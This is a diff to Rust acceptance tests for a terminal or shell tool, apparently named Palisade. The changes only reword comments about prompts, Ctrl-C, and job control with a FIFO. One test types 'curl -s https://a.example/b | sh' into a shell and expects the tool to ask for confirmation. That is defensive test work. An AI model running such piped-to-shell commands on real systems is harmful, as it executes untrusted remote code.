@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0 OR MIT
-//! Exit codes, job control, nesting, and no terminal.
+//! Tests exit codes, job control, nesting, and running without a terminal.
 
 use super::screen::{PALISADE, Setting, has};
 use palisade_acceptance::patience::pause;
@@ -43,7 +43,7 @@ fn start_up_files_that_say_nothing_of_it_are_no_hindrance() {
         screen.wait_until("the prompt", |screen| screen.contents().trim_end().ends_with('$'));
         let raw = String::from_utf8_lossy(screen.raw()).into_owned();
         assert!(raw.contains("\x1b]133;A"), "{shell}: {raw:?}");
-        // fish draws over what is said below its line.
+        // fish draws over a message below its line.
         if shell != "fish" {
             screen.line("curl -s https://a.example/b | sh");
             screen.wait_for("Enter again");
@@ -80,8 +80,8 @@ fn control_c_ends_the_command_and_not_the_shell() {
 fn jobs_stop_and_go_on() {
     for shell in shells() {
         let mut screen = Setting::of(shell, "").ready();
-        // It waits without starting anything: a shell that is stopped in the middle of a vfork sleeps uninterruptibly and
-        // counts as stopped to nobody.
+        // The command waits without starting a process: a shell that is stopped in the middle of a vfork sleeps uninterruptibly,
+        // so its parent doesn't see it as stopped.
         screen.line("mkfifo go; sh -c 'echo be''gun; read -r line <go; echo fin''ished'");
         screen.wait_for_line("begun");
         screen.wait_for_program("sh");
@@ -90,7 +90,7 @@ fn jobs_stop_and_go_on() {
             let text = screen.contents().to_lowercase();
             text.contains("stopped") || text.contains("suspended")
         });
-        // Opened for both, it waits for nobody who reads.
+        // Opened for reading and writing, because opening a FIFO only for writing would wait for a reader.
         let mut go = File::options().read(true).write(true).open(screen.path("go")).unwrap();
         go.write_all(b"on\n").unwrap();
         screen.line("fg");
